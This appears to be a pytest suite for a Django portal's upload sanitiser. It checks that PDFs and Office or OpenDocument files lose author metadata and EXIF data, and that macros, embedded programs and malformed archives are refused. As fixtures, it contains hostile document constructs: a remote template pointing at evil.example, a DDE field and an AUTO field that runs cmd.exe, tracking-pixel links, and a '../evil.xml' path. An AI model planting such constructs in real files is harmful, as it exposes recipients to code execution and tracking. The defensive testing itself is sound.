"""Documents name nobody and do nothing but show what is in them."""

import io
import struct
import zipfile
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from PIL import Image
from pypdf import PdfReader, PdfWriter
from wagtail.documents.forms import get_document_form

from portal.core.models import SiteDocument
from portal.core.uploads import office
from portal.core.uploads.documents import clean_document
from portal.core.uploads.jpeg_segments import strip_jpeg
from portal.core.uploads.refusal import ActiveContent, ContentMismatch
from tests.core.documents import WORD, packed, pdf, relation, sheet, word, word_members


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_pdf_loses_author_programs_and_files() -> None:
    kept = clean_document(pdf(active=True), ".pdf")
    for word_left in (b"Real Name", b"/JavaScript", b"app.alert", b"MZ embedded", b"/Launch"):
        assert word_left not in kept
    reader = PdfReader(io.BytesIO(kept))
    assert len(reader.pages) == 1
    assert not reader.attachments
    assert "/OpenAction" not in reader.root_object
    assert [each.title for each in reader.outline] == ["Contents"]
    assert clean_document(kept, ".pdf") == kept


def locked() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt("secret", algorithm="RC4-128")
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


@pytest.mark.parametrize(
    "content",
    [b"", b"<html>%PDF-", b"%PDF-1.4\n<script>\n%%EOF", pdf()[:200], locked()],
    ids=["empty", "html", "rubbish", "cut", "locked"],
)
def test_what_cannot_be_looked_into_is_no_pdf(content: bytes) -> None:
    with pytest.raises(ContentMismatch):
        clean_document(content, ".pdf")


def test_a_word_file_names_nobody() -> None:
    photo = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "Real Name's telephone"
    Image.new("RGB", (8, 8)).save(photo, "JPEG", exif=exif)
    body = '<w:ins w:author="Real Name" w:initials="RN"><w:t>Wages</w:t></w:ins>'
    content = word(
        {
            "docProps/core.xml": "<cp><creator>Real Name</creator></cp>",
            "docProps/app.xml": "<p><Company>Real Name</Company></p>",
            "word/media/image1.jpeg": photo.getvalue(),
            "word/people.xml": '<p author="Real Name"><q userId="Real Name"/></p>',
            "word/settings.xml": f'<w:s xmlns:w="{WORD}"><w:attachedTemplate id="rId1"/></w:s>',
            "word/_rels/settings.xml.rels": relation(
                "attachedTemplate", "https://evil.example/t.dotm"
            ),
        },
        body,
    )
    kept = members(clean_document(content, ".docx"))
    whole = b"".join(kept.values())
    for gone in (b"Real Name", b"evil.example", b"attachedTemplate"):
        assert gone not in whole
    assert b"Wages" in kept["word/document.xml"]
    assert clean_document(clean_document(content, ".docx"), ".docx") == clean_document(
        content, ".docx"
    )


def test_an_opendocument_sheet_names_nobody() -> None:
    content = sheet(
        {
            "meta.xml": "<m><creator>Real Name</creator></m>",
            "content.xml": '<c xmlns:dc="d"><dc:creator>Real Name</dc:creator>wage</c>',
            "Configurations2/accelerator/current.xml": "",
        }
    )
    kept = clean_document(content, ".ods")
    assert b"Real Name" not in b"".join(members(kept).values())
    assert b"wage" in members(kept)["content.xml"]
    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
        first = archive.infolist()[0]
    assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)


FIELD = '<w:instrText xmlns:w="%s">%s</w:instrText>'
ACTIVE = {
    "macros": word({"word/vbaProject.bin": "x"}),
    "macros by type": word({"[Content_Types].xml": "<T t='x.macroEnabled.main+xml'/>"}),
    "basic": sheet({"Basic/Standard/Module1.xml": "<m/>"}),
    "an embedded file": word({"word/embeddings/oleObject1.bin": "x"}),
    "a program": word({"word/media/image1.emf": b"MZ program"}),
    "a program by another name": word({"word/theme/run.exe": b"x"}),
    "a picture from elsewhere": word(
        {"word/_rels/document.xml.rels": relation("image", "https://evil.example/pixel.png")}
    ),
    "a picture from elsewhere, in VML": word(
        body='<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/"/>'
    ),
    "a picture from elsewhere, in OpenDocument": sheet(
        {"content.xml": "<c xmlns:x='l'><image x:href='https://evil.example/'/></c>"}
    ),
    "a field that runs": word(
        body=FIELD % (WORD, " DDE") + FIELD % (WORD, 'AUTO c:\\\\cmd.exe "/c calc"')
    ),
    "a listener": sheet({"content.xml": "<c><event-listener/></c>"}),
    "an external book": packed(
        {
            "[Content_Types].xml": "<T/>",
            "xl/workbook.xml": "<w/>",
            "xl/externalLinks/externalLink1.xml": "<x/>",
        }
    ),
}


@pytest.mark.parametrize("kind", ACTIVE)
def test_what_runs_or_fetches_is_refused(kind: str) -> None:
    suffix = ".xlsx" if "book" in kind else ".docx" if b"word/" in ACTIVE[kind] else ".ods"
    with pytest.raises(ActiveContent):
        clean_document(ACTIVE[kind], suffix)


def test_links_stay_links() -> None:
    relations = relation("hyperlink", "https://union.example/")
    content = word({"word/_rels/document.xml.rels": relations}, FIELD % (WORD, "HYPERLINK x"))
    kept = members(clean_document(content, ".docx"))
    assert b"union.example" in kept["word/_rels/document.xml.rels"]


def false_sizes(content: bytes, stated: int) -> bytes:
    """The archive with another size stated for every member."""
    changed = bytearray(content)
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset : at + offset + 4] = struct.pack("<I", stated)
            at = changed.find(mark, at + 4)
    return bytes(changed)


def test_sizes_are_counted_not_believed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "MAX_UNPACKED_BYTES", 50_000)
    large = word({"word/large.xml": "<a>" + " " * 100_000 + "</a>"})
    for content in (large, false_sizes(large, 10)):
        with pytest.raises(ContentMismatch):
            clean_document(content, ".docx")


BAD: dict[str, Any] = {
    "not XML": word({"word/document.xml": "x"}),
    "entities": word({"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "a path": word({"../evil.xml": "<a/>"}),
    "no document": packed({"[Content_Types].xml": "<T/>", "xl/workbook.xml": "<w/>"}),
    "no types": packed({"word/document.xml": "<w/>"}),
    "no archive": pdf(),
    "markup as a picture": word({"word/media/image1.png": "<svg/>"}),
    "empty": b"",
}


@pytest.mark.parametrize("kind", BAD)
def test_what_is_not_what_it_says_is_refused(kind: str) -> None:
    with pytest.raises(ContentMismatch):
        clean_document(BAD[kind], ".docx")


def test_a_part_twice_is_refused() -> None:
    written = io.BytesIO(packed(word_members()))
    with zipfile.ZipFile(written, "a") as archive, pytest.warns(UserWarning, match="word"):
        archive.writestr("word/document.xml", "<other/>")
    with pytest.raises(ContentMismatch):
        clean_document(written.getvalue(), ".docx")


def test_a_photograph_in_a_pdf_says_nothing() -> None:
    exif = Image.Exif()
    exif[0x010F] = "Real Name"
    photo = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(photo, "JPEG", exif=exif, comment=b"Real Name")
    stripped = strip_jpeg(photo.getvalue())
    assert b"Real Name" not in stripped
    assert Image.open(io.BytesIO(stripped)).convert("RGB").getpixel((1, 1)) == (254, 0, 0)


def form(name: str, content: bytes) -> Any:
    return get_document_form(SiteDocument)(
        {"title": "A file", "tags": ""}, {"file": SimpleUploadedFile(name, content)}
    )


@pytest.mark.django_db
def test_the_back_office_cleans_what_it_takes() -> None:
    filled = form("wages.PDF", pdf(active=True))
    assert filled.is_valid(), filled.errors
    document = filled.save()
    with document.file.open() as kept:
        assert b"Real Name" not in kept.read()
    assert document.file_size == document.file.size


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content"),
    [("x.pdf", b"<html>"), ("x.docx", ACTIVE["macros"]), ("x.txt", b"\xff\x00"), ("x.exe", b"MZ")],
)
def test_the_back_office_refuses_the_rest(name: str, content: bytes) -> None:
    assert "file" in form(name, content).errors


@pytest.mark.django_db
def test_kept_documents_are_cleaned() -> None:
    document = SiteDocument.objects.create(
        title="old", file=ContentFile(pdf(active=True), name="old.pdf")
    )
    call_command("clean_uploads", verbosity=0)
    document.refresh_from_db()
    with document.file.open() as kept:
        assert b"Real Name" not in kept.read()
    assert document.file_size == document.file.size
